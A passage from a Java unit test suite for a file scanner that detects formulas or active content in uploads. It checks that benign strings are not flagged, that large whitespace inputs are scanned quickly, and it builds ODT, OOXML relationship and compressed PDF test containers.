        for (String told : List.of("a=b", "a,1=2", "it's = so", "-5", "+4 932", "", "mail@example.org", "'' =")) {
            assertThat(Inert.hasFormulas(bytes(told))).as(told).isFalse();
        }
    }

    /** At each download, of a text that anybody may have sent. */
    @ParameterizedTest
    @ValueSource(strings = {" ", "\n", ",\n ", "\" ", "- ", "-\n"})
    void aTableOfNothingIsLookedAtInNoTime(String piece) {
        byte[] nothing = bytes(piece.repeat(20 * 1024 * 1024 / piece.length()));
        assertWork(Duration.ofSeconds(2), () -> assertThat(Inert.hasFormulas(nothing))
                .isFalse());
    }

    private static String relationship(String relation) {
        return "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/" + relation + (relation.contains("'") ? "'" : "\"") + "/></Relationships>";
    }

    private static byte[] open(String content) {
        return zip(Map.of(
                "mimetype",
                Packed.ODT,
                "content.xml",
                "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'"
                        + " xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0'"
                        + " xmlns:draw='urn:oasis:names:tc:opendocument:xmlns:drawing:1.0'"
                        + " xmlns:table='urn:oasis:names:tc:opendocument:xmlns:table:1.0'"
                        + " xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:l='http://www.w3.org/1999/xlink'>"
                        + content + "</office:document-content>"));
    }

    private static byte[] pdfWithPacked(String objects) {
        return pdfWithPacked(objects, "");
    }

    /** @param objects one, behind its number and place of four signs */
    private static byte[] pdfWithPacked(String objects, String beside) {
        return one(
                one(
                        bytes("%PDF-1.7\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"),
                        packed(objects)),
                bytes("\nendstream\nendobj\n" + beside + "\n%%EOF\n"));
    }

    /** Of this thread alone: another suite beside it, or a collection, is no fault of the search. */
    private static void assertWork(Duration most, Executable search) {
        assertWork(most, search, "");
    }

    private static void assertWork(Duration most, Executable search, String of) {
        ThreadMXBean threads = ManagementFactory.getThreadMXBean();
        long before = threads.getCurrentThreadCpuTime();
        assertThatCode(search::execute).doesNotThrowAnyException();
        assertThat(Duration.ofNanos(threads.getCurrentThreadCpuTime() - before))
                .as(of)
                .isLessThanOrEqualTo(most);
    }

    private static byte[] packed(String objects) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(packed)) {
            deflater.write(bytes(objects));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }
}
